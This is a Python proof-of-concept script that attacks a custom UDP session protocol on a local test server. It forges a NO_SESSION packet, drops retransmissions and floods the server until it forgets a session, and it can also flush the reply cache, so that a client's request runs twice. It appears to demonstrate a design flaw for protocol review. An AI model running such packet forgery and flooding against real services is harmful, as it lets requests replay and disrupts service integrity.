"""ATTACK: the page's own rules make the victim silent under its session: after a (forged) NO_SESSION
a client "does not send the calls outstanding under the session named" until its new session is
accepted. An on-path attacker forges that NO_SESSION and drops the first copies of the victim's INIT
(the client resends the SAME INIT at 0.2, 0.6, 1.4, 3.0, 6.2 s); meanwhile load of the victim's key
makes the server forget the silent session (a tombstone), and the tombstone goes with the call (reply
cache time, or its byte budget). The INIT copy finally let through names the forgotten session
(the victim's current, as the page says) and starts a new line: the resent call runs again.

Usage: python attack_forged_ns.py PORT ttl|flush   (fresh count_server.py on PORT; ~12-18 s)
  ttl  : NO_SESSION forged 4.0 s after X was answered; INIT copies until +6.2 s dropped; the copy at
         T0+10.2 s arrives after the 10 s reply cache forgot X. No large replies needed.
  flush: NO_SESSION forged at T0+0.3 s; a caller of another key pushes X out of the reply cache with
         1300 x 60000-byte replies; the INIT copy at +6.2 s (T0+6.5) is let through.
The victim's client obeys every rule of the page (resends under A at most 1 s apart until the
NO_SESSION, acts on a NO_SESSION for its current session with X outstanding, names A as prev, sends
the same INIT bytes again, resends X with its req_id under the new session)."""
import sys, os, time, socket
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

PORT = int(sys.argv[1]); MODE = sys.argv[2] if len(sys.argv) > 2 else "ttl"
ins = Insider(PORT); ins.flood(2200)
print("insider holds", len(ins.mine), "sessions;", stats(PORT))
if MODE == "flush":
    fl = Client(PORT, key=load_client(os.path.join(AD, "client2.json")))
    fl.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20); FS = fl.handshake()
atk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); atk.bind(("127.0.0.1", 0))
v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X)[0]); print("X under A:", ans(v, A, 0.2), "(reply dropped on the path)"); t0 = time.time()
NS_AT = 4.0 if MODE == "ttl" else 0.3
k = 1
while time.time() - t0 < NS_AT:                      # the victim's retransmissions under A, 1 s apart
    if time.time() - t0 >= k:
        v.send(v.req_dgrams(1, rid, X, sess=A)[0]); print(f"+{time.time()-t0:.2f}s victim resends X under A:", ans(v, A, 0.05), "(dropped)"); k += 1
    time.sleep(0.02)
# forged NO_SESSION: header type 6, X's func_id and req_id, body = A's id (anyone on the path can)
atk.sendto(hdr(T_NOSESS, 1, rid, 0, 1, 8, 0) + A.sid.to_bytes(8, "big"), v.sock.getsockname())
kind, h = v.classify(v.recv(0.5), A); assert kind == "NO_SESSION" and h["req_id"] == rid
t_ns = time.time(); print(f"+{t_ns-t0:.2f}s victim takes a forged NO_SESSION for A (current, X outstanding): makes a session following A")
hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32); tms = int(time.time() * 1000)
# the victim sends this INIT at +0, 0.2, 0.6, 1.4, 3.0 (all dropped on the path) and 6.2 s (let through)
time.sleep(0.5); ins.touch_all(); print(f"+{time.time()-t0:.2f}s insider touched its own sessions (A is now the longest silent)")
while time.time() - t0 < NS_AT + 2.3: time.sleep(0.05)
for b in range(6):
    ins.flood(150, keep=False); st = stats(PORT); print(f"+{time.time()-t0:.2f}s insider INIT batch {b}:", st)
    if st["tombstones"]: break
if MODE == "flush":
    frid = int.from_bytes(os.urandom(5), "big")
    for i in range(1300):
        frid += 1; fl.send(FS.seal(T_REQ, 5, frid, 0, 1, 8, 0, (60000).to_bytes(4, "little") + os.urandom(4)))
        if i % 16 == 15: time.sleep(0.002)
    time.sleep(0.3); print(f"+{time.time()-t0:.2f}s after 1300 large replies of key 2:", stats(PORT))
while time.time() - t_ns < 6.2: time.sleep(0.02)
print(f"+{time.time()-t0:.2f}s before the INIT copy arrives:", stats(PORT))
B = v.handshake(prev=A, hid=hid, e_priv=e, t_ms=tms)   # the same INIT bytes as the dropped copies
print(f"+{time.time()-t0:.2f}s victim took ACCEPT for B (prev=A); resends X under B:", end=" ")
v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print(ans(v, B, 0.4))
print("after:", stats(PORT))
n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
